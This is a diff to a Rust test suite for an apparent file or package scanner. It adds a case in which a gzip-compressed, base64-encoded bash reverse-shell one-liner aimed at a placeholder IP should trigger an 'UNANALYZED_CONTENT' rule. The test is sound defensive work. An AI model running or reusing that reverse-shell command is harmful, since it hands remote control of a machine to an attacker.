@@ -79,6 +79,12 @@ fn cases() -> Vec<Case> {
     let encoded_text = base64::engine::general_purpose::STANDARD
         .encode("The quick brown fox jumps over the lazy dog, twice over.");
     let encoded_elf = base64::engine::general_purpose::STANDARD.encode(elf());
+    let encoded_gzip = {
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut gz, b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")
+            .expect("compress");
+        base64::engine::general_purpose::STANDARD.encode(gz.finish().expect("gzip"))
+    };
     vec![
         Case {
             rule: "MANIFEST_FRONTMATTER_MISSING",
@@ -189,6 +195,11 @@ fn cases() -> Vec<Case> {
                 bytes
             })],
             quiet: vec![(String::from("run.py"), b"print('hi')\n".to_vec())],
+        },
+        Case {
+            rule: "UNANALYZED_CONTENT",
+            fire: vec![(String::from("assets/data.txt"), encoded_gzip.into_bytes())],
+            quiet: vec![(String::from("assets/data.txt"), encoded_text.clone().into_bytes())],
         },
         Case {
             rule: "FILE_ARCHIVE",
